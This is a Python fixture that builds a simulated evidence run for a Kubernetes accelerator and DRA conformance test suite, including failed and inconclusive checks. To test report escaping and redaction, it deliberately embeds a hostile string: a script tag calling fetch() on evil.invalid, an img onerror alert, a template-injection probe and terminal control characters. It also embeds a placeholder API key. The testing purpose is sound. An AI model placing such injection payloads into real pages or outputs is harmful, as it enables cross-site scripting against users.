"""A run directory as a real run leaves it, hostile content included; made without a cluster."""

import dataclasses
import datetime
import sys
from collections.abc import Iterator
from pathlib import Path

from aicr_pytest.evidence.record import Basis, CheckRecord, Outcome, Phase
from aicr_pytest.evidence.redaction.redact import Redactor
from aicr_pytest.evidence.run import (
    AcceleratorPool,
    CheckResult,
    ClusterInfo,
    NodeSeen,
    RequirementResult,
    RunInfo,
)
from aicr_pytest.evidence.store import EvidenceStore
from aicr_pytest.reports.writing import write_reports

RUN_ID = "20261123-201405-7f3a"
HOSTILE = (
    "</code></pre><script>document.title='owned';fetch('http://evil.invalid/x')</script>"
    "<img src=http://evil.invalid/y onerror=alert(1)> {{ 7*7 }} \x1b[2J\x00 \u202e \udcff"
)
UUIDS = [
    "GPU-5c1f5d2e-3f0b-4c57-9a55-0f2d3a6b7c81",
    "GPU-a91f7e10-27c4-49d8-8f10-1b7c2d3e4f50",
    "GPU-0d3c8a77-6b1e-4d0a-b6a2-9e8f70615243",
]


@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
class Command:
    """What aicr_pytest.cluster gives for a command in a container."""

    command_line: str
    pod: str
    stdout: str
    stderr: str = ""
    exit_code: int = 0
    taken_at: datetime.datetime = datetime.datetime(2026, 11, 23, 20, 14, 31, tzinfo=datetime.UTC)

    @property
    def source(self) -> str:
        """What ran, where, and by which request."""
        namespace, name = self.pod.split("/")
        request = f"GET /api/v1/namespaces/{namespace}/pods/{name}/exec"
        return f"{request}, container probe: `{self.command_line}`"

    @property
    def by_hand(self) -> str:
        """As kubectl would have it."""
        namespace, name = self.pod.split("/")
        return f"kubectl exec -n {namespace} {name} -c probe -- {self.command_line}"


def ticking() -> Iterator[datetime.datetime]:
    """A clock that is the same in every run of the tests."""
    moment = datetime.datetime(2026, 11, 23, 20, 14, 5, tzinfo=datetime.UTC)
    while True:
        yield moment
        moment += datetime.timedelta(milliseconds=730)


def make(directory: Path) -> Path:
    """Write the sample run with all its reports."""
    clock = ticking()
    store = EvidenceStore.open(directory, RUN_ID, Redactor(), clock=lambda: next(clock))
    _dra(store)
    _secure(store)
    for path in ("/version", "/apis/resource.k8s.io/v1/resourceslices?limit=500"):
        store.journal("GET", path, 200, 0.004)
    store.write_run(_run(store))
    store.finish()
    assert write_reports(directory) == []
    return directory


def _dra(store: EvidenceStore) -> None:
    api = store.begin(
        "dra_support",
        "test_stable_dra_api_is_served",
        title="The stable DRA API is served, and its four kinds can be created and deleted",
        proves="Users can rely on resource.k8s.io/v1.",
        basis="plan",
    )
    api.phase = "call"
    api.json(
        "API resources of resource.k8s.io/v1",
        {"kind": "APIResourceList", "groupVersion": "resource.k8s.io/v1"},
        source="GET /apis/resource.k8s.io/v1",
    )
    _end(store, "passed", 0.41)

    pod = store.begin(
        "dra_support",
        "test_pod_sees_exactly_the_devices_its_claim_was_given",
        title="A pod sees exactly the devices that its claim was given",
        proves="The device published by the driver, the one allocated to the claim and the one"
        " inside the container are the same.",
        basis="text",
    )
    pod.phase = "setup"
    pod.yaml(
        "ResourceClaim gpu, allocated",
        {
            "apiVersion": "resource.k8s.io/v1",
            "kind": "ResourceClaim",
            "metadata": {"name": "gpu", "namespace": "aicr-7f3a-dra-support", "managedFields": []},
            "status": {
                "allocation": {
                    "devices": {
                        "results": [
                            {
                                "device": "gpu-3",
                                "driver": "gpu.nvidia.com",
                                "pool": "node-1",
                                "request": "gpu",
                            }
                        ]
                    }
                }
            },
        },
        source="GET /apis/resource.k8s.io/v1/namespaces/aicr-7f3a-dra-support/resourceclaims/gpu",
    )
    pod.phase = "call"
    pod.execution(
        Command(
            command_line="nvidia-smi -L",
            pod="aicr-7f3a-dra-support/gpu",
            stdout=f"GPU 0: NVIDIA H100 80GB HBM3 (UUID: {UUIDS[0]})\n",
        ),
        "Devices that the vendor's tool lists in the container",
    )
    pod.table(
        "Identity of each device: published, allocated, seen",
        ["device", "published (ResourceSlice)", "allocated (claim)", "seen in the container"],
        [["gpu-3", UUIDS[0], UUIDS[0], UUIDS[0]]],
        source="ResourceSlice node-1-gpu.nvidia.com, ResourceClaim gpu, nvidia-smi -L",
        compare=["published (ResourceSlice)", "allocated (claim)", "seen in the container"],
    )
    pod.fact("node", "node-1")
    pod.fact("mechanism", "DRA claim")
    _end(store, "passed", 4.21)

    long = store.begin(
        "dra_support",
        "test_released_device_can_be_claimed_again",
        title="A released device can be claimed again",
        proves="Nothing stays allocated once a pod is gone.",
        basis="text",
    )
    long.text("Events while waiting", "claim pending, 0 of 1 allocated\n" * 20_000, source="watch")
    long.fact("time to release", "1.8 s")
    _end(store, "passed", 9.7)


def _secure(store: EvidenceStore) -> None:
    granted = store.begin(
        "secure_accelerator_access",
        "test_container_sees_what_it_was_granted[two/devices]",
        title="A container that was granted two devices sees exactly those two",
        proves="Device nodes and the vendor's tool show the granted devices and no others.",
        basis="text",
    )
    granted.phase = "call"
    granted.table(
        "Granted and seen",
        ["device", "granted", "device node", "vendor's tool"],
        [
            ["gpu-0", UUIDS[1], UUIDS[1], UUIDS[1]],
            ["gpu-1", UUIDS[2], UUIDS[2], UUIDS[0]],
        ],
        source="ResourceClaim two, /dev in the container, nvidia-smi -L",
        compare=["granted", "device node", "vendor's tool"],
    )
    granted.execution(
        Command(
            command_line="sh -c 'ls -l /dev/nvidia*'",
            pod="aicr-7f3a-secure/two",
            stdout="crw-rw-rw- 1 root root 195, 0 Nov 23 20:14 /dev/nvidia0\n" + HOSTILE,
            stderr="ls: cannot access '/dev/nvidia-modeset': Operation not permitted\n",
            exit_code=2,
        ),
        "Device nodes in the container",
    )
    _end(
        store,
        "failed",
        3.3,
        "The container was granted gpu-1 and sees another device.\n"
        f"  Granted: {UUIDS[2]}\n  Seen:    {UUIDS[0]}\n"
        "  Check what the DRA driver writes into its CDI files on node-1.\n" + HOSTILE,
    )

    bypass = store.begin(
        "secure_accelerator_access",
        "test_explicit_environment_gives_no_device",
        title="NVIDIA_VISIBLE_DEVICES set in the pod gives no device",
        proves="Nobody gets an accelerator by naming it in the environment.",
        basis="hardening",
    )
    bypass.phase = "call"
    bypass.text(
        "Environment of the container",
        "NVIDIA_VISIBLE_DEVICES=all\nNGC_API_KEY=nvapi-" + "x" * 40 + "\n",
        source="`env` in pod aicr-7f3a-secure/env"
        " (GET /api/v1/namespaces/aicr-7f3a-secure/pods/env/exec)",
        exit_code=0,
    )
    _end(store, "failed", 2.05, "A container without a request sees 8 devices.", "setup")

    store.begin(
        "secure_accelerator_access",
        "test_two_pods_cannot_open_each_others_device",
        title="Two pods with one device each cannot open the other's",
        proves="The device cgroup refuses what was not granted.",
        basis="plan",
    )
    _end(
        store,
        "inconclusive",
        31.0,
        "NoCapacity: 2 accelerators are needed on node-1, 1 is free.\n"
        "  Free one, or name another node with --aicr-nodes.",
        left_behind="ResourceClaim aicr-7f3a-secure/second: finalizers"
        " resource.kubernetes.io/delete-protection; last event: none",
    )


def _end(
    store: EvidenceStore,
    outcome: Outcome,
    seconds: float,
    message: str = "",
    phase: str = "call",
    left_behind: str = "",
) -> None:
    assert store.current
    word = "passed" if outcome == "passed" else "failed"
    phases = [
        Phase(name="setup", outcome="passed", seconds=round(seconds / 3, 3)),
        Phase(name=phase, outcome=word, seconds=round(2 * seconds / 3, 3), message=message),
    ]
    store.end(store.current, outcome, message, phases, left_behind)


def _run(store: EvidenceStore) -> RunInfo:
    def checks(requirement: str) -> list[CheckResult]:
        return [_result(r) for r in store.records if r.requirement == requirement]

    never_ran: Basis = "text"
    return RunInfo(
        run_id=RUN_ID,
        simulated=True,
        started_at="2026-11-23T20:14:05.000Z",
        finished_at="2026-11-23T20:15:01.400Z",
        seconds=56.4,
        cluster=ClusterInfo(
            context="aicr-lab",
            server="https://127.0.0.1:38443",
            version="v1.37.2",
            platform="aicr lab, 2 nodes on one machine",
            nodes=(
                NodeSeen(name="node-1", pool="lab", accelerators=8, looked_at=True),
                NodeSeen(name="node-2", pool="lab", accelerators=8, note="same pool as node-1"),
            ),
            accelerators=(
                AcceleratorPool(
                    pool="lab",
                    model="NVIDIA H100 80GB HBM3",
                    mechanism="DRA claim (gpu.nvidia.com)",
                    count=16,
                    looked_at="node-1",
                ),
            ),
        ),
        settings={"aicr_lab": "true (command line)", "aicr_timeout_scale": "1.0 (default)"},
        versions={
            "aicr_pytest": "0.1.0",
            "pytest": "9.2.0",
            "Python": "3.11.2",
            "kubernetes client": "37.0.2",
        },
        requirements=(
            RequirementResult(
                id="dra_support",
                title="Dynamic resource allocation",
                category="accelerators",
                level="not listed",
                verdict="Implemented",
                reason="All 3 deciding checks passed.",
                checks=tuple(checks("dra_support")),
            ),
            RequirementResult(
                id="secure_accelerator_access",
                title="Isolated access to accelerators",
                category="security",
                level="MUST",
                verdict="Not Implemented",
                reason="A deciding check failed: a container that was granted two devices does not"
                " see exactly those two.",
                checks=(
                    *checks("secure_accelerator_access"),
                    CheckResult(
                        check="test_access_is_mediated",
                        title="The granted device came through a claim or the device plugin",
                        basis=never_ran,
                        outcome="not run",
                        message="Interrupted before it started.",
                    ),
                ),
            ),
        ),
        exit_status=1,
        list_version="1.37",
        command="pytest --aicr-lab --evidence-dir out -m 'dra or secure'",
    )


def _result(record: CheckRecord) -> CheckResult:
    return CheckResult(
        check=record.check,
        title=record.title,
        basis=record.basis,
        outcome=record.outcome,
        seconds=record.seconds,
        message=record.message,
    )


if __name__ == "__main__":
    make(Path(sys.argv[1]))
